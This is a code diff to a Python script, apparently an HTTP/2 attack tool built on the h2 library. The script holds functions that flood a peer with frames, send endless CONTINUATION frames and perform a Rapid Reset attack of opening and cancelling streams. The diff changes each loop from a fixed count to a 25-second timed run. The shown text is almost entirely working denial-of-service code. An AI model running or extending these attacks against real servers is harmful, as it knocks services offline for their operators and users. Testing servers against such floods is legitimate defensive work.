@@ -8,11 +8,15 @@ It needs the packages of `requirements.txt`.
 import socket
 import struct
 import sys
+import time
 
 import h2.config
 import h2.connection
 import h2.events
 import h2.settings
+
+# How long an attack goes on that nobody ends.
+PATIENCE_S = 25
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CALL = [
@@ -28,7 +32,8 @@ def frame(kind, flags=0, stream=0, payload=b""):
 def flood(peer, piece):
     """Sends a piece again and again, until the peer has had enough."""
     peer.sendall(PREFACE + frame(4))
-    for _ in range(2000):
+    until = time.monotonic() + PATIENCE_S
+    while time.monotonic() < until:
         peer.sendall(piece * 100)
     return "it took everything"
 
@@ -48,7 +53,8 @@ def settings(peer):
 def continuation(peer):
     head = heads(h2.connection.H2Connection())
     peer.sendall(PREFACE + frame(4) + frame(1, 0, 1, head))
-    for _ in range(100_000):
+    until = time.monotonic() + PATIENCE_S
+    while time.monotonic() < until:
         peer.sendall(frame(9, 0, 1, b"\x00\x01a\x01b" * 100))
     return "it took everything"
 
@@ -57,7 +63,8 @@ def rapid_reset(peer):
     conn = h2.connection.H2Connection()
     conn.initiate_connection()
     peer.sendall(conn.data_to_send())
-    for _ in range(200):
+    until = time.monotonic() + PATIENCE_S
+    while time.monotonic() < until:
         for _ in range(100):
             stream = conn.get_next_available_stream_id()
             conn.send_headers(stream, CALL)
